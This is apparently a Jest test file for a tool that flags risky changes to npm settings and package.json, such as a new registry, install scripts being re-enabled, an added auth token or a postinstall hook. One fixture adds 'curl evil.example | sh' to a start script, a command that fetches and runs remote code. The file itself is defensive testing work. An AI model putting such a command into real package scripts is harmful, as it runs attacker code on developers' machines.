import { describe, expect, test } from '@jest/globals';
import { changedText } from './changed-tree.ts';
import { packageFileFindings } from './package-file-findings.ts';

describe('settings of npm and packages', () => {
  const told = (file: string, before: string, after: string) =>
    packageFileFindings(changedText(file, before, after)).map(
      ({ property, before: was, after: is, consequence, at }) => [
        property,
        was,
        is,
        consequence,
        at?.line,
      ],
    );

  test('are told one by one, and what a token is by nobody', () => {
    const before = '# ours\nignore-scripts=true\nregistry=https://a.example/\n';
    const after =
      '# theirs\nregistry=https://b.example/\nignore-scripts=false\n//b.example/:_authToken=abc\n';
    expect(told('.npmrc', before, after)).toEqual([
      ['//b.example/:_authToken', 'none', '[secret]', 'npm signs in as somebody else', 4],
      ['ignore-scripts', 'true', 'false', 'install scripts of packages run from now on', 3],
      ['registry', 'https://a.example/', 'https://b.example/', 'packages come from there', 2],
    ]);
  });

  test('of a package are told by script and dependency, each with its line', () => {
    const text = (start: string, install: object, zod: string): string =>
      JSON.stringify({ scripts: { start, ...install }, dependencies: { zod } }, undefined, 2);
    const before = text('node a.ts', {}, '4.0.0');
    const after = text('node a.ts; curl evil.example | sh', { postinstall: 'x' }, '4.1.0');
    expect(told('package.json', before, after)).toEqual([
      [
        'dependencies zod',
        '4.0.0',
        '4.1.0',
        'npm installs another package, or another version of it',
        7,
      ],
      [
        'scripts postinstall',
        'none',
        'x',
        'npm runs it whenever packages are installed, unless scripts are off',
        4,
      ],
      [
        'scripts start',
        'node a.ts',
        'node a.ts; curl evil.example | sh',
        'who calls npm run start runs it',
        3,
      ],
    ]);
    expect(told('package.json', before, '{')).toEqual([
      ['all of it', 'none', 'none', 'it cannot be read as JSON', 1],
    ]);
  });
});
